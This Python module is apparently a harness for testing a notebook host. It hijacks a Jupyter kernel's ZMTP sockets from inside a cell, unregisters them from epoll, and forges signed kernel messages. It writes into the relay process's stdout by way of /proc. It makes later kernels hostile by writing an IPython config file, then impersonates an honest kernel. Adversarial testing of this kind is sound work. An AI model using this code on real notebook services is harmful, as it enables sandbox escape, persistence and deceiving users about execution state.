"""Takes a kernel's sockets away from it, in its own process, and speaks raw ZMTP on them.

Sent as the beginning of a cell; the rest of the cell is an attack. Whatever is asked after the attack is answered by
`serve`, a small kernel in the same namespace, so that what the host says of the state can be checked.
"""

import contextlib
import hashlib
import hmac
import io
import json
import os
import re
import select
import signal
import socket
import stat
import struct
import traceback
import uuid

NUMBERS = {"shell": 1, "stdin": 2, "control": 3, "iopub": 4, "hb": 5}
DELIMITER = b"<IDS|MSG>"
GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x01" + b"NULL".ljust(20, b"\0") + bytes(32)


def frame(body, more=False, flags=0):
    """One frame of ZMTP."""
    flags |= int(more)
    if len(body) > 255:
        return bytes([flags | 2]) + struct.pack(">Q", len(body)) + body
    return bytes([flags, len(body)]) + body


def multipart(frames):
    return b"".join(frame(body, more=at < len(frames) - 1) for at, body in enumerate(frames))


def command(name, **properties):
    pairs = [(key.replace("_", "-").encode(), value) for key, value in properties.items()]
    body = b"".join(bytes([len(key)]) + key + struct.pack(">I", len(value)) + value for key, value in pairs)
    return frame(bytes([len(name)]) + name + body, flags=4)


def ready(channel):
    kind = {"iopub": b"XPUB", "hb": b"REP"}.get(channel, b"ROUTER")
    return command(b"READY", Socket_Type=kind, Identity=b"")


def descriptors():
    """This process's Unix sockets that belong to a channel: (descriptor, channel, whether it listens, its peer, its path)."""
    for name in map(int, os.listdir("/proc/self/fd")):
        try:
            if not stat.S_ISSOCK(os.fstat(name).st_mode):
                continue
        except OSError:
            continue
        with socket.socket(fileno=os.dup(name)) as duplicate:
            path = duplicate.getsockname() if duplicate.family == socket.AF_UNIX else b""
            place = re.search(r"/k\d+-([1-5])$", path if isinstance(path, str) else "")
            if not place or duplicate.type != socket.SOCK_STREAM:
                continue
            listens = duplicate.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
            peer = 0
            if not listens:
                peer = struct.unpack("3i", duplicate.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
            channel = next(channel for channel, number in NUMBERS.items() if number == int(place[1]))
            yield name, channel, bool(listens), peer, path


def link(stream, kind, payload=b"", length=None):
    """One frame of the link between bridge and host."""
    return struct.pack(">BBI", stream, kind, len(payload) if length is None else length) + payload


def deafen(descriptor):
    """Takes a descriptor out of every epoll of this process, so that nobody else reads from it."""
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if os.readlink(f"/proc/self/fd/{name}") == "anon_inode:[eventpoll]":
                select.epoll.fromfd(os.dup(int(name))).unregister(descriptor)


class Stream:
    """One connection of the host."""

    def __init__(self, sock, channel, greeted=True):
        self.sock, self.channel, self.greeted = sock, channel, greeted
        self.buffer, self.frames = b"", []
        sock.setblocking(True)

    def send(self, data):
        with contextlib.suppress(OSError):
            self.sock.sendall(data)

    def receive(self):
        """The messages that have come; None at the end."""
        try:
            data = self.sock.recv(1 << 16)
        except OSError:
            data = b""
        if not data:
            return None
        self.buffer += data
        if not self.greeted and len(self.buffer) >= 64:
            self.buffer, self.greeted = self.buffer[64:], True
        return list(self.messages()) if self.greeted else []

    def messages(self):
        while len(self.buffer) >= 2:
            flags, head, length = self.buffer[0], 2, self.buffer[1]
            if flags & 2:
                if len(self.buffer) < 9:
                    return
                head, length = 9, struct.unpack_from(">Q", self.buffer, 1)[0]
            if len(self.buffer) < head + length:
                return
            body, self.buffer = self.buffer[head : head + length], self.buffer[head + length :]
            if flags & 4:
                continue
            self.frames.append(body)
            if not flags & 1:
                message, self.frames = self.frames, []
                yield message


class Kernel:
    """What speaks in the kernel's place."""

    def __init__(self, namespace, key, session, ours):
        self.namespace, self.key, self.session, self.ours = namespace, key, session, ours
        self.streams, self.listeners, self.count = [], [], 1000

    def capture(self):
        """Takes the connections over. IOPub's stays in libzmq's hands as well: it only writes there, and nobody does."""
        for descriptor, channel, listens, peer, _ in list(descriptors()):
            if not listens and peer != os.getpid() and channel != "hb":
                if channel != "iopub":
                    deafen(descriptor)
                self.streams.append(Stream(socket.socket(fileno=os.dup(descriptor)), channel))
        assert {stream.channel for stream in self.streams} == {"shell", "stdin", "control", "iopub"}, self.streams

    def listen(self):
        """Takes the listeners over as well."""
        for descriptor, channel, listens, _, _ in list(descriptors()):
            if listens:
                deafen(descriptor)
                sock = socket.socket(fileno=os.dup(descriptor))
                sock.setblocking(True)
                self.listeners.append((sock, channel))

    def raw(self, channel, data, times=1):
        for stream in self.streams:
            if stream.channel == channel:
                for _ in range(times):
                    stream.send(data)

    def flood(self, channel, data):
        """Sends the same bytes until nobody takes them any more."""
        for stream in [stream for stream in self.streams if stream.channel == channel]:
            with contextlib.suppress(OSError):
                while True:
                    stream.sock.sendall(data)

    def drip(self, channel, data, size=1):
        """Sends bytes in pieces, each of which the host sees by itself."""
        for at in range(0, len(data), size):
            self.raw(channel, data[at : at + size])
            os.sched_yield()

    def asked(self, channel, kind):
        """Waits for a request of this type and returns its header."""
        while True:
            for stream in [stream for stream in self.streams if stream.channel == channel]:
                for message in stream.receive():
                    parts = message[message.index(DELIMITER) + 2 :]
                    if json.loads(parts[0])["msg_type"] == kind:
                        return parts[0]

    def own(self):
        """The directory of this kernel's own listeners, and its generation."""
        paths = [path for _, _, listens, _, path in descriptors() if listens]
        return os.path.dirname(paths[0]), int(re.search(r"/k(\d+)-", paths[0])[1])

    def relay(self):
        """The process that carries this kernel's channels. Where there are no containers, others have theirs."""
        home = self.own()[0].encode()
        for pid in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
                words = file.read().split(b"\0")
                if b"relay" in words and (home in words or home == b"/run/cellblock"):
                    return int(pid)
        raise LookupError("no relay")

    def forge(self, data, times=1):
        """Writes in the relay's name."""
        with contextlib.suppress(BrokenPipeError), open(f"/proc/{self.relay()}/fd/1", "wb", buffering=0) as pipe:
            for _ in range(times):
                left = memoryview(data)
                while left:
                    left = left[pipe.write(left) :]

    def recorder(self):
        """What keeps IOPub's messages for the next controller, in memory that it shares with PID 1."""
        return type(get_ipython().kernel.iopub_thread).recorder  # noqa: F821

    def end_of_host(self):
        """Says that it has begun and waits until the host has let go."""
        self.stdout("begun\n")
        while self.streams:
            for sock in select.select([stream.sock for stream in self.streams], [], [])[0]:
                stream = next(stream for stream in self.streams if stream.sock is sock)
                if stream.receive() is None:
                    self.streams.remove(stream)

    def close(self, channel):
        for stream in self.streams:
            if stream.channel == channel:
                with contextlib.suppress(OSError):
                    stream.sock.shutdown(socket.SHUT_RDWR)

    def sign(self, parts):
        return hmac.new(self.key, b"".join(parts), hashlib.sha256).hexdigest().encode()

    def header(self, kind, **changes):
        made = {"msg_id": uuid.uuid4().hex, "session": self.session, "username": "kernel", "version": "5.3"}
        return {**made, "date": "2025-01-01T00:00:00.000000Z", "msg_type": kind, **changes}

    def frames(self, kind, content, parent=None, header=None, metadata=None, topic=(), signature=None, buffers=()):
        """The frames of a message. What is bytes goes as it is."""
        parts = [self.header(kind) if header is None else header, self.ours if parent is None else parent]
        parts += [{} if metadata is None else metadata, content]
        parts = [part if isinstance(part, bytes) else json.dumps(part).encode() for part in parts]
        signature = self.sign(parts) if signature is None else signature
        return [*topic, DELIMITER, signature, *parts, *buffers]

    def say(self, channel, kind, content, times=1, **fields):
        """Sends a message, a new one each time."""
        topic = [b"kernel"] if channel == "iopub" else []
        for _ in range(times):
            self.raw(channel, multipart(self.frames(kind, content, **{"topic": topic, **fields})))

    def busy(self, **fields):
        self.say("iopub", "status", {"execution_state": "busy"}, **fields)

    def idle(self, **fields):
        self.say("iopub", "status", {"execution_state": "idle"}, **fields)

    def stdout(self, text, **fields):
        self.say("iopub", "stream", {"name": "stdout", "text": text}, **fields)

    def reply(self, status="ok", **fields):
        more = {"ename": "E", "evalue": "", "traceback": []} if status == "error" else {}
        self.say("shell", "execute_reply", {"status": status, "execution_count": self.count, **more}, **fields)

    def play(self, lines):
        """Runs an attack. One that is itself at fault says so, as an exception of the cell."""
        try:
            exec(lines, {**globals(), "k": self})
        except Exception as error:  # noqa: BLE001
            self.raise_(error, self.ours, "AttackFailed")
            self.idle()
        self.serve()

    def raise_(self, error, parent, name=None):
        lines = traceback.format_exception(error)
        said = {"ename": name or type(error).__name__, "evalue": str(error), "traceback": lines}
        self.say("iopub", "error", said, parent=parent)
        self.say("shell", "execute_reply", {"status": "error", "execution_count": self.count, **said}, parent=parent)

    def end(self):
        """Ends the cell as an honest kernel would."""
        self.stdout("after\n")
        self.reply()
        self.idle()

    def serve(self):
        """Answers what is asked, for ever."""
        while True:
            waiting = [stream.sock for stream in self.streams] + [sock for sock, _ in self.listeners]
            for sock in select.select(waiting, [], [])[0] if waiting else [signal.pause()]:
                listener = next((channel for known, channel in self.listeners if known is sock), None)
                if listener:
                    self.welcome(Stream(sock.accept()[0], listener, greeted=False))
                stream = next((stream for stream in self.streams if stream.sock is sock), None)
                messages = stream.receive() if stream else []
                if messages is None:
                    self.streams.remove(stream)
                for message in messages or []:
                    self.answer(stream.channel, message)

    def welcome(self, stream):
        """Greets a new connection."""
        self.streams.append(stream)
        stream.send(GREETING + ready(stream.channel))

    def answer(self, channel, message):
        if DELIMITER not in message:
            return
        parts = message[message.index(DELIMITER) + 2 :]
        header, kind = parts[0], json.loads(parts[0])["msg_type"]
        if kind == "execute_request":
            self.execute(header, json.loads(parts[3])["code"])
        elif kind.endswith("_request"):
            self.busy(parent=header)
            self.say(channel, kind.replace("request", "reply"), {"status": "ok"}, parent=header)
            self.idle(parent=header)

    def execute(self, parent, code):
        self.count += 1
        counted = {"execution_count": self.count}
        self.busy(parent=parent)
        self.say("iopub", "execute_input", {"code": code, **counted}, parent=parent)
        printed, raised = io.StringIO(), None
        try:
            with contextlib.redirect_stdout(printed):
                try:
                    compiled = compile(code, "<cell>", "eval")
                except SyntaxError:
                    exec(code, self.namespace)
                else:
                    value = repr(eval(compiled, self.namespace))
                    result = {"data": {"text/plain": value}, "metadata": {}, **counted}
                    self.say("iopub", "execute_result", result, parent=parent)
        except BaseException as error:  # noqa: BLE001
            raised = error
        if printed.getvalue():
            self.stdout(printed.getvalue(), parent=parent)
        if raised:
            self.raise_(raised, parent)
        else:
            self.say("shell", "execute_reply", {"status": "ok", **counted}, parent=parent)
        self.idle(parent=parent)


def born(lines):
    """Becomes a kernel before it has begun: its sockets listen, and nobody has greeted yet. Runs in its configuration."""
    from ipykernel.kernelapp import IPKernelApp

    signal.signal(signal.SIGINT, signal.SIG_IGN)
    kernel = Kernel({}, bytes(IPKernelApp.instance().config.Session.key), "born", {})
    kernel.listen()
    kernel.play(lines)


def rebirth(source, lines):
    """Makes the next kernel of this container a hostile one, and ends this one."""
    profile = os.path.join(get_ipython().ipython_dir, "profile_default")  # noqa: F821
    os.makedirs(profile, exist_ok=True)
    with open(os.path.join(profile, "ipython_kernel_config.py"), "w", encoding="utf-8") as file:
        file.write(f"{source}\nborn({lines!r})\n")
    os._exit(3)


def hijack():
    """Becomes the kernel that runs this cell."""
    shell = get_ipython()  # noqa: F821
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    session, header = shell.kernel.session, shell.kernel.get_parent()["header"]
    kernel = Kernel(shell.user_ns, session.key, session.session, {**header, "date": str(header["date"])})
    kernel.capture()
    return kernel
